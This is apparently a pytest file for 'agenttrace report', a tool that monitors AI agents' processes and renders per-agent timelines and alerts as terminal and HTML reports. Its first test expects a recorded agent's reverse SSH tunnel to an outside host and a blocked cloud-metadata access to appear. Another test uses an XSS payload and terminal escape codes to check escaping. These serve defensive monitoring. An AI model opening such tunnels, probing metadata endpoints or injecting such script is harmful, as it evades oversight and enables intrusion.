"""`agenttrace report`: the terminal timeline, bad input, escaping, and the HTML page opened in
Debian's headless chromium (no console messages, the page's script ran, one timeline per
agent) on the events of `agenttrace demo`."""
from __future__ import annotations

import json
import re
import shutil
import subprocess
import tempfile
from pathlib import Path

import pytest

from conftest import AGENTTRACE, REPO, REQUIRE_BPF

FIX = REPO / "tests" / "fixtures"
CHROMIUM = shutil.which("chromium")
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
         "--disable-component-update", "--disable-sync", "--enable-logging=stderr", "--v=0"]


def _run(*args, **kw):
    return subprocess.run([AGENTTRACE, *args], capture_output=True, text=True, timeout=300, **kw)


def _chromium(url: str, *extra: str) -> subprocess.CompletedProcess:
    if CHROMIUM is None:
        if REQUIRE_BPF:
            pytest.fail("chromium is not installed (scripts/setup.sh --test installs it)")
        pytest.skip("chromium is not installed (scripts/setup.sh --test installs it)")
    profile = tempfile.mkdtemp(prefix="agenttrace-chromium-")
    try:
        return subprocess.run([CHROMIUM, *FLAGS, f"--user-data-dir={profile}", *extra, url],
                              capture_output=True, text=True, timeout=120)
    finally:
        shutil.rmtree(profile, ignore_errors=True)


def _console(stderr: str) -> list[str]:
    return [l for l in stderr.splitlines() if ":CONSOLE" in l]


def test_terminal_timeline_from_recorded_events():
    r = _run("report", str(FIX / "events_attack.jsonl"), "--no-color")
    assert r.returncode == 0, r.stderr
    assert r.stdout.startswith("== agent ep-0042")
    assert "exec ssh -N -R 8022:localhost:22 ops@203.0.113.50" in r.stdout
    assert "169.254.169.254:80 metadata [blocked/blocked]" in r.stdout


def test_bad_input_names_file_and_line(tmp_path):
    f = tmp_path / "bad.jsonl"
    f.write_text('{"ts": "2025-01-01T00:00:00Z", "kind": "exec"}\nnot json\n')
    r = _run("report", str(f))
    assert r.returncode == 2 and f"{f}:2: not JSON" in r.stderr
    f.write_text('{"ts": "yesterday", "kind": "exec"}\n')
    r = _run("report", str(f))
    assert r.returncode == 2 and f"{f}:1: field 'ts'" in r.stderr
    assert _run("report", str(tmp_path / "missing.jsonl")).returncode == 2


def test_agent_strings_are_escaped(tmp_path):
    evil = '</script><img src=x onerror=alert(1)>'
    rec = {"ts": "2025-01-01T00:00:00Z", "kind": "exec", "node": "n",
           "agent": {"id": "a<b>", "cgroup": "/a", "cgroup_id": 7, "episode": "ep\x1b[2J"},
           "proc": {"pid": 5, "ppid": 1, "comm": "x", "exe": "/x", "args": ["/x", evil, "\x1b[31m"]}}
    f = tmp_path / "ev.jsonl"
    f.write_text(json.dumps(rec) + "\n")
    out = tmp_path / "r.html"
    assert _run("report", str(f), "--html", str(out)).returncode == 0
    page = out.read_text()
    assert evil not in page and "&lt;/script&gt;&lt;img" in page and "a&lt;b&gt;" in page
    term = _run("report", str(f), "--no-color").stdout
    assert "\x1b" not in term and "\\x1b" in term


def test_console_detector_sees_errors(tmp_path):
    """The check below is only as good as its detector: a page that errs must be caught."""
    bad = tmp_path / "bad.html"
    bad.write_text("<html><body><script>undefinedFunction()</script></body></html>")
    r = _chromium(bad.as_uri(), "--dump-dom")
    assert any("Uncaught ReferenceError" in l for l in _console(r.stderr))


def test_html_report_of_the_demo_in_headless_chromium(tmp_path, demo_run):
    d, events, _before, _after = demo_run
    assert d.returncode == 0, d.stdout[-2000:] + d.stderr[-2000:]
    recs = [json.loads(l) for l in events.read_text().splitlines()]
    agents = {r["agent"]["id"] for r in recs if r.get("agent")}
    assert len(agents) >= 2
    page = tmp_path / "report.html"
    r = _run("report", str(events), "--html", str(page))
    assert r.returncode == 0, r.stderr
    text = page.read_text()
    # self-contained: nothing to fetch (the CSP would refuse it anyway)
    assert not re.search(r'(src|href)\s*=\s*["\']?(https?:|//)', text)
    res = _chromium(page.as_uri(), "--dump-dom")
    assert res.returncode == 0, res.stderr[-2000:]
    assert _console(res.stderr) == []
    dom = res.stdout
    assert 'data-ready="1"' in dom                      # the page's script ran to its end
    timelines = re.findall(r'<svg class="timeline" data-agent="([^"]+)"', dom)
    assert sorted(timelines) == sorted(agents) and len(timelines) == len(agents)
    alerts = sum(1 for r in recs if r["kind"] == "alert" and r.get("agent"))
    assert len(re.findall(r'<path class="alert sev-', dom)) == alerts
    assert dom.count('class="alert-detail"') == alerts
    assert "gpumem" in dom                               # the fake-NVML GPU use is drawn
    shot = tmp_path / "shot.png"
    s = _chromium(page.as_uri(), "--window-size=1280,1600", f"--screenshot={shot}")
    assert s.returncode == 0 and shot.stat().st_size > 10_000


def test_one_timeline_per_episode_when_a_cgroup_is_reused(tmp_path):
    def rec(ts, ep, kind="exec"):
        return {"ts": ts, "kind": kind, "node": "n", "agent": {"id": "w1", "cgroup": "/a/w1", "cgroup_id": 3, "episode": ep},
                "proc": {"pid": 9, "ppid": 1, "comm": "sh", "exe": "/bin/sh", "args": ["sh"]}}
    f = tmp_path / "ev.jsonl"
    f.write_text("".join(json.dumps(r) + "\n" for r in (
        rec("2026-01-01T00:00:00Z", "ep-7"), rec("2026-01-01T00:00:01Z", "ep-7"), rec("2026-01-01T00:00:02Z", "ep-8"))))
    out = tmp_path / "r.html"
    assert _run("report", str(f), "--html", str(out)).returncode == 0
    assert re.findall(r'<svg class="timeline" data-agent="([^"]+)"', out.read_text()) == ["w1 · ep-7", "w1 · ep-8"]
    term = _run("report", str(f), "--no-color", "--agent", "ep-8").stdout
    assert "w1 · ep-8" in term and "ep-7" not in term
